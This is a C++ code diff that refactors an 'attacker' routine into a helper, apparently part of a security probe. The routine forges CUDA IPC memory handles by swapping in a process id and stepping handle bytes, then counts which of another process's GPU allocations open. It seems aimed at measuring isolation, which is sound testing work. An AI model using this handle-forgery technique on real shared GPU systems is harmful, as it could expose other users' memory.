@@ -138,6 +138,19 @@ int attacker(const std::string& dir) {
   const uint32_t me = static_cast<uint32_t>(getpid());
   long pid_at = -1;
   for (size_t i = 0; i + 4 <= sizeof h1; ++i) if (std::memcmp(reinterpret_cast<char*>(&h1) + i, &me, 4) == 0) pid_at = static_cast<long>(i);
+  // Each handle `from` with one of the bytes where the attacker's own handles differ stepped by -64..64.
+  auto step_allocation_bytes = [&](const cudaIpcMemHandle_t& from, std::map<std::string, int>* tally) {
+    for (size_t d : differ) {
+      for (int delta = -64; delta <= 64; ++delta) {
+        if (delta == 0) continue;
+        cudaIpcMemHandle_t f = from;
+        auto* bytes = reinterpret_cast<unsigned char*>(&f);
+        bytes[d] = static_cast<unsigned char>(bytes[d] + delta);
+        const std::string what = attempt(f);
+        if (tally != nullptr && !what.empty()) ++(*tally)[what];
+      }
+    }
+  };
   for (const cudaIpcMemHandle_t* base : {&h1, &h2}) {
     for (int swap_pid = 0; swap_pid < 2; ++swap_pid) {
       cudaIpcMemHandle_t h = *base;
@@ -145,15 +158,7 @@ int attacker(const std::string& dir) {
         if (pid_at < 0) continue;
         std::memcpy(reinterpret_cast<char*>(&h) + pid_at, &owner_pid, 4);
       }
-      for (size_t d : differ) {
-        for (int delta = -64; delta <= 64; ++delta) {
-          if (delta == 0) continue;
-          cudaIpcMemHandle_t f = h;
-          auto* bytes = reinterpret_cast<unsigned char*>(&f);
-          bytes[d] = static_cast<unsigned char>(bytes[d] + delta);
-          attempt(f);
-        }
-      }
+      step_allocation_bytes(h, nullptr);
     }
   }
   // What exporting costs (crl's workers export their outputs' allocations inside the timed window):
@@ -175,16 +180,7 @@ int attacker(const std::string& dir) {
   // what a process that learnt one handle of another's (or guessed the bytes that name that process)
   // opens of that process's other allocations, exported or not.
   std::map<std::string, int> from_given;
-  for (size_t d : differ) {
-    for (int delta = -64; delta <= 64; ++delta) {
-      if (delta == 0) continue;
-      cudaIpcMemHandle_t f = given;
-      auto* bytes = reinterpret_cast<unsigned char*>(&f);
-      bytes[d] = static_cast<unsigned char>(bytes[d] + delta);
-      const std::string what = attempt(f);
-      if (!what.empty()) ++from_given[what];
-    }
-  }
+  step_allocation_bytes(given, &from_given);
   std::printf("{\"handle_given\": \"%s\", \"handle_own_1\": \"%s\", \"handle_own_2\": \"%s\", \"from_given\": {",
               hex(&given, sizeof given).c_str(), hex(&h1, sizeof h1).c_str(), hex(&h2, sizeof h2).c_str());
   bool first_given = true;
